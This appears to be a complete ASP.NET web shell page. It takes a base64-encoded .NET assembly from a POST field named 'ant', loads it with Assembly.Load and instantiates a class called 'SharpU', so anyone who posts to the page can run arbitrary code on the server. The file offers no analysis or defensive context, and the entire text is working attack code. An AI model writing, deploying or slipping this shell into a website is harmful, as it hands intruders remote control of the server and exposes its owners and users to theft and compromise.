<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %><%
    string p = Request.Form["ant"];
    if (p != null) {
        byte[] b = Convert.FromBase64String(p);
        Assembly.Load(b).CreateInstance("SharpU").Equals(this);
    }
%>
